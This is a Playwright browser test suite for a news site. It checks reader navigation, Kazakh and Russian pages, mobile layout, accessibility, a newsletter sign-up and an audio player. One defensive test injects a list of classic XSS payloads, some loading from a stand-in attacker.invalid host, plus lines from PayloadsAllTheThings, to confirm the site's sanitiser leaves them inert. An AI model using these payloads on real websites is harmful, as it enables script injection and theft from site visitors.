"""The site in a real browser (headless Chromium through Playwright), against the whole pipeline.

Articles go in upstream through Kafka, exactly as a publisher sends them; a reader then
clicks through the site, on a desktop and on a phone, with and without JavaScript. axe-core
checks the pages' accessibility, and a body full of XSS payloads must run nothing and reach
no other host. Screenshots of every step land in ``artifacts/browser/``.
"""

from __future__ import annotations

import json
import pathlib
import re
from datetime import UTC, datetime
from urllib.parse import urlsplit

import pytest
from playwright.async_api import Page, expect

from tests.browser.conftest import Article, Site, publish_and_wait

pytestmark = pytest.mark.browser

PHONE = {"viewport": {"width": 390, "height": 844}, "device_scale_factor": 2, "is_mobile": True, "has_touch": True}
DESKTOP = {"viewport": {"width": 1280, "height": 900}}


async def shot(page: Page, directory: pathlib.Path, name: str) -> None:
    await page.screenshot(path=str(directory / f"{name}.png"), full_page=True)


async def goto(page: Page, url: str) -> None:
    response = await page.goto(url, wait_until="load")
    assert response is not None and response.status == 200, f"{url} answered {response and response.status}"


# --- a reader's journey -------------------------------------------------------------------------

async def test_reader_journey_home_article_related_search_section(site: Site, new_context, browser_artifacts):
    context = await new_context(**DESKTOP)
    page = await context.new_page()
    docking, launch = site.docking, site.launch

    await goto(page, site.url("/"))
    await expect(page).to_have_title(re.compile("KazPost"))
    await expect(page.locator("#listing-title")).to_have_text("Latest news")
    await shot(page, browser_artifacts, "journey-1-home")

    await page.locator(".teaser-headline").get_by_role("link", name=docking.headline, exact=True).click()
    await expect(page).to_have_url(site.url(docking.path))
    await expect(page.locator("h1.headline")).to_have_text(docking.headline)
    await expect(page.locator("p.standfirst")).to_have_text(docking.standfirst)
    await expect(page.locator(".article-body")).to_contain_text("docked with the International Space Station")
    related = page.locator("section.related")
    await expect(related.get_by_role("heading", level=2)).to_have_text("Related Articles")
    related_link = related.get_by_role("link", name=launch.headline, exact=True)
    await expect(related_link).to_have_attribute("href", launch.path)
    await shot(page, browser_artifacts, "journey-2-article")

    await related_link.click()
    await expect(page).to_have_url(site.url(launch.path))
    await expect(page.locator("h1.headline")).to_have_text(launch.headline)
    await expect(page.locator("p.standfirst")).to_have_text(launch.standfirst)
    await expect(page.locator(".article-body")).to_contain_text("lifted off from the Baikonur cosmodrome")
    await expect(page.locator("section.related").get_by_role("link", name=docking.headline, exact=True)).to_be_visible()
    await shot(page, browser_artifacts, "journey-3-related-article")

    await page.get_by_role("searchbox", name="Search").fill(site.search_word)
    await page.get_by_role("search").get_by_role("button", name="Search").click()
    await expect(page).to_have_url(site.url(f"/search?q={site.search_word}"))
    await expect(page.locator("#search-title")).to_have_text(f"Results for “{site.search_word}”")
    results = page.locator(".search-results .teaser-headline")
    await expect(results.get_by_role("link", name=docking.headline, exact=True)).to_have_attribute("href", docking.path)
    await expect(results.get_by_role("link", name=launch.headline, exact=True)).to_have_attribute("href", launch.path)
    await expect(page.get_by_role("searchbox", name="Search")).to_have_value(site.search_word)
    await shot(page, browser_artifacts, "journey-4-search")

    nav_link = page.get_by_role("navigation", name="Sections").get_by_role("link", name=site.section_name, exact=True)
    await nav_link.click()
    await expect(page).to_have_url(site.url(f"/section/{site.section_slug}"))
    await expect(page.locator("#listing-title")).to_have_text(site.section_name)
    await expect(page.get_by_role("navigation", name="Sections").get_by_role("link", name=site.section_name, exact=True)
                 ).to_have_attribute("aria-current", "page")
    listing = page.locator(".listing .teaser-headline")
    await expect(listing.get_by_role("link", name=docking.headline, exact=True)).to_be_visible()
    await expect(listing.get_by_role("link", name=launch.headline, exact=True)).to_be_visible()
    await expect(listing.get_by_role("link", name=site.kazakh.headline)).to_have_count(0)
    await shot(page, browser_artifacts, "journey-5-section")


@pytest.mark.parametrize("which, newsletter_label, search_word", [
    pytest.param("kazakh", "Жаңалықтар таратылымы", "саябақ", id="kk"),
    pytest.param("russian", "Рассылка", "метро", id="ru"),
])
async def test_kazakh_and_russian_articles(site: Site, new_context, browser_artifacts, which, newsletter_label, search_word):
    article: Article = getattr(site, which)
    context = await new_context(**DESKTOP)
    page = await context.new_page()

    await goto(page, site.url("/"))
    await page.locator(".teaser-headline").get_by_role("link", name=article.headline, exact=True).click()
    await expect(page).to_have_url(site.url(article.path))
    await expect(page.locator("html")).to_have_attribute("lang", article.language)
    await expect(page.locator("article.article")).to_have_attribute("lang", article.language)
    await expect(page.locator("h1.headline")).to_have_text(article.headline)
    await expect(page.locator("p.standfirst")).to_have_text(article.standfirst)
    await expect(page.locator("#newsletter-title")).to_have_text(newsletter_label)
    await shot(page, browser_artifacts, f"language-{article.language}-article")

    await page.get_by_role("searchbox").fill(search_word)
    await page.get_by_role("searchbox").press("Enter")
    await expect(page).to_have_url(re.compile(r"/search\?q="))
    await expect(page.locator(".search-results").get_by_role("link", name=article.headline, exact=True)).to_be_visible()
    await shot(page, browser_artifacts, f"language-{article.language}-search")


# --- a phone, and no JavaScript --------------------------------------------------------------------

async def test_phone_width_has_no_horizontal_scroll(site: Site, new_context, browser_artifacts):
    context = await new_context(**PHONE)
    page = await context.new_page()
    for name, path in [("article", site.docking.path), ("article-kk", site.kazakh.path), ("home", "/")]:
        await goto(page, site.url(path))
        sizes = await page.evaluate(
            "() => ({scroll: document.documentElement.scrollWidth, inner: window.innerWidth})")
        await shot(page, browser_artifacts, f"phone-{name}")
        assert sizes["inner"] == 390, sizes
        assert sizes["scroll"] <= sizes["inner"], f"{path} scrolls sideways on a 390 px phone: {sizes}"


async def test_article_works_without_javascript(site: Site, new_context, browser_artifacts):
    context = await new_context(java_script_enabled=False, **DESKTOP)
    page = await context.new_page()
    await goto(page, site.url(site.docking.path))
    await expect(page.locator("h1.headline")).to_have_text(site.docking.headline)
    await expect(page.locator("p.standfirst")).to_have_text(site.docking.standfirst)
    await expect(page.locator(".article-body")).to_contain_text("docked with the International Space Station")
    await expect(page.locator("section.related").get_by_role("link", name=site.launch.headline, exact=True)).to_be_visible()

    form = page.locator('form[action="/newsletter"]')
    await expect(form).to_have_count(1)
    await expect(form).to_have_attribute("method", "post")
    email = form.get_by_role("textbox", name="Email address")
    await expect(email).to_be_visible()
    await expect(email).to_have_attribute("type", "email")
    await expect(form.get_by_role("button", name="Subscribe")).to_be_visible()
    await shot(page, browser_artifacts, "no-js-article")

    # Plain links and a GET form: search works without scripts too.
    await page.get_by_role("searchbox", name="Search").fill(site.search_word)
    await page.get_by_role("searchbox", name="Search").press("Enter")
    await expect(page.locator(".search-results").get_by_role("link", name=site.launch.headline, exact=True)).to_be_visible()


# --- accessibility (axe-core) ----------------------------------------------------------------------

AXE_RUN = """async () => {
  const result = await axe.run(document, {resultTypes: ["violations"]});
  return result.violations.map(v => ({
    id: v.id, impact: v.impact, help: v.help, helpUrl: v.helpUrl,
    nodes: v.nodes.map(n => ({target: n.target, html: n.html, summary: n.failureSummary})),
  }));
}"""
AXE_PAGES = {
    "home": lambda site: "/",
    "article": lambda site: site.docking.path,
    "article-kk": lambda site: site.kazakh.path,
    "search": lambda site: f"/search?q={site.search_word}",
    "section": lambda site: f"/section/{site.section_slug}",
}


def describe(violations: list[dict]) -> str:
    lines = []
    for v in violations:
        lines.append(f"- {v['id']} [{v['impact']}] {v['help']} ({v['helpUrl']})")
        for n in v["nodes"][:10]:
            lines.append(f"    {' '.join(map(str, n['target']))}: {n['html'][:200]}")
            if n.get("summary"):
                lines.append("      " + n["summary"].replace("\n", "\n      "))
    return "\n".join(lines)


@pytest.mark.parametrize("page_name", list(AXE_PAGES))
@pytest.mark.parametrize("form_factor", ["desktop", "phone"])
async def test_accessibility_axe(site: Site, new_context, browser_artifacts, axe_source, page_name, form_factor):
    # axe is injected as an inline script, which the site's CSP (script-src 'self') forbids.
    context = await new_context(bypass_csp=True, **(PHONE if form_factor == "phone" else DESKTOP))
    page = await context.new_page()
    await goto(page, site.url(AXE_PAGES[page_name](site)))
    await page.add_script_tag(content=axe_source)
    violations = await page.evaluate(AXE_RUN)
    (browser_artifacts / f"axe-{page_name}-{form_factor}.json").write_text(
        json.dumps(violations, ensure_ascii=False, indent=2), encoding="utf-8")
    if violations:
        print(f"axe on {page_name} ({form_factor}):\n{describe(violations)}")
    blocking = [v for v in violations if v["impact"] in ("serious", "critical")]
    assert not blocking, f"axe found serious or critical violations on {page_name} ({form_factor}):\n{describe(violations)}"


# --- XSS ---------------------------------------------------------------------------------------------

XSS_DIR = ("data", "badinput", "payloadsallthethings", "xss")
PAYLOADS_PER_FILE = 5
CLASSIC_PAYLOADS = [
    "<script>window.__xss=1</script>",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"window.__xss=1\">",
    "<svg onload=alert(1)>",
    "<svg><script>window.__xss=1</script></svg>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"javascript:window.__xss=1\" id=\"xss-link\">click</a>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>parent.__xss=1</script>\"></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=\"window.__xss=1\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__xss=1\">",
    "<form><button formaction=javascript:alert(1)>go</button></form>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"https://attacker.invalid/\">",
    "<link rel=stylesheet href=\"https://attacker.invalid/x.css\">",
    "<script src=\"https://attacker.invalid/x.js\"></script>",
    "<div style=\"background:url(https://attacker.invalid/x.png)\">styled</div>",
    "<img src=\"https://attacker.invalid/pixel.png\" alt=\"a plain image from another host\">",
    "<p>&lt;script&gt;window.__xss=1&lt;/script&gt;</p>",
]
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f]")


def xss_payloads(shared_dir: pathlib.Path) -> list[str]:
    """The classics, plus PAYLOADS_PER_FILE markup payloads evenly spread over each list."""
    directory = shared_dir.joinpath(*XSS_DIR)
    if not directory.is_dir():
        pytest.fail(f"the XSS payload lists are missing: no directory {directory} (shared/ beside the repository)")
    picked: list[str] = []
    for path in sorted(directory.glob("*.txt")):
        lines = [_CONTROL.sub("", line).strip() for line in path.read_text(encoding="utf-8", errors="replace").splitlines()]
        # Markup payloads only: the event-handler name lists hold bare names.
        lines = [line for line in lines if "<" in line and len(line) <= 500]
        if lines:
            step = max(1, len(lines) // PAYLOADS_PER_FILE)
            picked += lines[::step][:PAYLOADS_PER_FILE]
    if len(picked) < 20:
        pytest.fail(f"only {len(picked)} markup payloads found under {directory}")
    # <plaintext> can never be closed: such payloads go last (a stable sort keeps the rest in order).
    return sorted(CLASSIC_PAYLOADS + picked, key=lambda p: "<plaintext" in p.lower())


# Ends whatever a payload left open (a comment, an attribute, a raw-text or foreign element), so
# that one unclosed <iframe> or <svg> cannot swallow, and so hide, every payload after it.
CLOSE_ALL = ("-->\"'></script></style></iframe></noscript></noembed></noframes></xmp></textarea></title>"
             "</template></select></option></table></svg></math></object></a>")


def marker(n: int) -> str:
    return f"xss-marker-{n:03d}"


def xss_body(payloads: list[str], run_id: str) -> str:
    parts = [f"<p>XSS canary {run_id}: every payload below must stay inert.</p>"]
    parts += [f"{payload}\n{CLOSE_ALL}<p>{marker(n)}</p>" for n, payload in enumerate(payloads)]
    return "\n".join(parts)


def is_local(url: str) -> bool:
    parts = urlsplit(url)
    return parts.scheme in ("data", "blob", "about") or parts.hostname == "127.0.0.1"


async def watched_context(new_context, **options):
    """A context that records dialogs, console messages and requests, and never lets a request
    leave the machine (it is aborted, but still recorded as attempted)."""
    context = await new_context(**DESKTOP, **options)
    await context.route(lambda url: not is_local(url), lambda route: route.abort("blockedbyclient"))
    return context


def watch(page: Page) -> dict[str, list]:
    seen: dict[str, list] = {"dialogs": [], "external": [], "console": []}

    async def on_dialog(dialog):
        seen["dialogs"].append(f"{dialog.type}: {dialog.message}")
        await dialog.dismiss()

    def on_request(request):
        if not is_local(request.url):
            seen["external"].append({"type": request.resource_type, "url": request.url})

    page.on("dialog", on_dialog)
    page.on("request", on_request)
    page.on("console", lambda message: seen["console"].append(f"{message.type}: {message.text}"))
    page.on("pageerror", lambda error: seen["console"].append(f"pageerror: {error}"))
    return seen


BODY_DOM_CHECK = """() => {
  const bad = [];
  for (const el of document.querySelectorAll("body *")) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase(), value = attr.value.replace(/[\\s\\x00-\\x1f]/g, "").toLowerCase();
      if (name.startsWith("on") || name === "srcdoc" || name === "formaction" || name === "style" && el.closest(".article-body"))
        bad.push(el.tagName + " " + name + "=" + attr.value.slice(0, 80));
      if (["href", "src", "action", "data", "xlink:href"].includes(name) && /^(javascript|vbscript|data):/.test(value))
        bad.push(el.tagName + " " + name + "=" + attr.value.slice(0, 80));
    }
  }
  for (const el of document.querySelectorAll(".article-body script, .article-body iframe, .article-body object, "
       + ".article-body embed, .article-body svg, .article-body math, .article-body form, .article-body style, "
       + ".article-body link, .article-body meta, .article-body base, .article-body input, .article-body button"))
    bad.push("element " + el.tagName);
  return bad;
}"""


async def provoke(page: Page, selector: str) -> None:
    """Give event-handler payloads their chances: the pointer over the area, focus moving through the page."""
    box = await page.locator(selector).bounding_box()
    if box:
        for i in range(12):
            await page.mouse.move(box["x"] + (i % 4 + 0.5) * box["width"] / 4, box["y"] + (i // 4 + 0.5) * box["height"] / 3)
    for _ in range(15):
        await page.keyboard.press("Tab")
    await page.wait_for_timeout(300)


async def findings(page: Page, seen: dict[str, list]) -> dict:
    """What a payload that ran (or tried to) would leave behind."""
    # Plain <img src> in a body may point at another host (the sanitiser allows http(s) images and
    # the CSP allows https: images): that is how agency photos are shown, so such image requests
    # are reported apart; any other request to another host (script, style, frame, fetch, ...) fails.
    body_images = {urlsplit(u)._replace(scheme="").geturl() for u in
                   await page.eval_on_selector_all(".article-body img[src]", "els => els.map(e => e.src)")}
    image_hotlinks = [r for r in seen["external"]
                      if r["type"] == "image" and urlsplit(r["url"])._replace(scheme="").geturl() in body_images]
    return {
        "dialogs": seen["dialogs"],
        "external": [r for r in seen["external"] if r not in image_hotlinks],
        "image_hotlinks": image_hotlinks,
        "window.__xss": await page.evaluate("() => typeof window.__xss"),
        "bad_dom": await page.evaluate(BODY_DOM_CHECK),
        "blocked_by_browser": [m for m in seen["console"] if "Content Security Policy" in m or m.startswith("pageerror")],
        "console": seen["console"],
    }


async def test_xss_payloads_in_an_article_run_nothing(site: Site, pipeline, producer, run_id, shared_dir,
                                                      new_context, browser_artifacts):
    payloads = xss_payloads(shared_dir)
    body = xss_body(payloads, run_id)
    (browser_artifacts / "xss-payloads.txt").write_text("\n".join(payloads) + "\n", encoding="utf-8")
    article = Article(f"urn:test:{run_id}:xss", "Security review <script>window.__xss=1</script><img src=x onerror=alert(1)>",
                      "Payloads \"><svg onload=alert(1)> in the standfirst too", "en", "Society")
    await publish_and_wait(pipeline, producer, [(article, body)], when=datetime.now(UTC).replace(microsecond=0))

    # Once with the site's CSP, once without it: the sanitiser alone must already make the body inert.
    for label, options in [("csp", {}), ("no-csp", {"bypass_csp": True})]:
        context = await watched_context(new_context, **options)
        page = await context.new_page()
        seen = watch(page)
        await goto(page, site.url(article.path))
        await page.wait_for_load_state("networkidle")
        await expect(page.locator(".article-body")).to_contain_text(f"XSS canary {run_id}")
        await expect(page.locator("h1.headline")).to_have_text("Security review")
        text = await page.locator(".article-body").text_content() or ""
        hidden = [payloads[n] for n in range(len(payloads)) if marker(n) not in text]
        assert not hidden, f"payloads that swallowed the rest of the body (so it went untested): {hidden}"
        await provoke(page, ".article-body")
        await shot(page, browser_artifacts, f"xss-{label}")

        found = await findings(page, seen)
        report = json.dumps(found, indent=2, ensure_ascii=False)
        (browser_artifacts / f"xss-{label}.json").write_text(report, encoding="utf-8")
        if found["image_hotlinks"]:
            print(f"[{label}] body images from other hosts (allowed by design): {found['image_hotlinks']}")
        assert not found["dialogs"], f"[{label}] a payload opened a dialog:\n{report}"
        assert not found["external"], f"[{label}] the page tried to reach another host:\n{report}"
        assert found["window.__xss"] == "undefined", f"[{label}] a payload ran (window.__xss is set):\n{report}"
        assert not found["bad_dom"], f"[{label}] script vectors survived in the page:\n{report}"
        assert not found["blocked_by_browser"], f"[{label}] something tried to run and only the browser stopped it:\n{report}"


async def test_xss_detectors_catch_a_live_payload(site: Site, new_context):
    """The checks above would see a payload that ran: plant one past the sanitiser and look."""
    context = await watched_context(new_context, bypass_csp=True)
    page = await context.new_page()
    seen = watch(page)
    await goto(page, site.url(site.docking.path))
    await page.evaluate("""() => {
      document.querySelector(".article-body").insertAdjacentHTML("beforeend",
        '<img src="/missing.png" onerror="window.__xss = 1; alert(1)">' +
        '<link rel="stylesheet" href="https://attacker.invalid/x.css">');
    }""")
    await page.wait_for_function("() => window.__xss === 1")
    await page.wait_for_timeout(300)
    found = await findings(page, seen)
    assert found["dialogs"] == ["alert: 1"], found
    assert found["window.__xss"] == "number", found
    assert any("attacker.invalid" in r["url"] for r in found["external"]), found
    assert any("onerror" in b for b in found["bad_dom"]), found


# --- the newsletter, through the page's own form --------------------------------------------------

async def test_newsletter_double_opt_in_in_the_browser(site: Site, pipeline, db, new_context, browser_artifacts):
    """The real form, sent by Chromium without JavaScript (so the browser's own same-origin
    headers pass the cross-site check), then the link from the real email, then the button."""
    from shared.mongo import SUBSCRIBERS
    from shared.tokens import subscriber_id_for
    from tests.integration.helpers import eventually

    email = f"browser-{site.docking.id[:6]}@example.org"
    context = await new_context(java_script_enabled=False, **DESKTOP)
    page = await context.new_page()
    await goto(page, site.url(site.docking.path))
    form = page.locator('form[action="/newsletter"]')
    await form.get_by_role("textbox", name="Email address").fill(email)
    await form.get_by_role("checkbox", name="Science").check()
    async with page.expect_navigation() as navigation:
        await form.get_by_role("button", name="Subscribe").click()
    response = await navigation.value
    assert response is not None and response.status == 202
    await expect(page.locator("main")).to_contain_text("check your inbox")
    await shot(page, browser_artifacts, "newsletter-thanks")

    async def mail():
        return pipeline.mail.to(email)
    message = (await eventually(mail, what="the confirmation email"))[0]
    text = message.get_body(preferencelist=("plain",)).get_content()
    link = re.search(r"http://\S+/newsletter/confirm\?\S+", text).group(0)
    await goto(page, link)
    await shot(page, browser_artifacts, "newsletter-confirm")
    async with page.expect_navigation():
        await page.get_by_role("button", name="Confirm subscription").click()
    await expect(page.locator("main")).to_contain_text("subscription is confirmed")

    async def confirmed():
        doc = await db[SUBSCRIBERS].find_one({"_id": subscriber_id_for(email)})
        return doc and doc["status"] == "confirmed" and doc["sections"] == ["science"]
    await eventually(confirmed, what="the subscriber to be confirmed with the chosen section")


# --- listen to this article ------------------------------------------------------------------------

async def test_listen_player_plays_and_seeks(site: Site, pipeline, new_context, browser_artifacts):
    """The narration made by the real narration service plays in Chromium, and seeking works
    (the browser fetches the audio with Range requests)."""
    from tests.integration.helpers import eventually

    async def narrated():
        status, html, _ = await pipeline.get(site.kazakh.path)
        return status == 200 and "<audio" in html
    await eventually(narrated, timeout=90, what="the narration of the Kazakh article")
    context = await new_context(**DESKTOP)
    page = await context.new_page()
    await goto(page, site.url(site.kazakh.path))
    player = page.locator("section.listen")
    await expect(player.get_by_role("heading", name="Мақаланы тыңдау")).to_be_visible()
    await expect(player.locator("time")).to_have_attribute("datetime", re.compile(r"^PT\d+M\d+S$"))
    state = await page.evaluate("""async () => {
      const audio = document.querySelector("section.listen audio");
      await audio.play();
      await new Promise((resolve, reject) => {
        const t = setTimeout(() => reject(new Error("no progress")), 15000);
        const tick = () => audio.currentTime > 0.3 ? (clearTimeout(t), resolve()) : setTimeout(tick, 50);
        tick();
      });
      const duration = audio.duration;
      audio.currentTime = duration / 2;
      await new Promise(resolve => audio.addEventListener("seeked", resolve, {once: true}));
      const seekedTo = audio.currentTime;
      audio.pause();
      return {duration, seekedTo, paused: audio.paused, error: audio.error && audio.error.code};
    }""")
    assert state["error"] is None and state["paused"]
    assert state["duration"] > 2 and abs(state["seekedTo"] - state["duration"] / 2) < 1.5
    await shot(page, browser_artifacts, "listen-player")
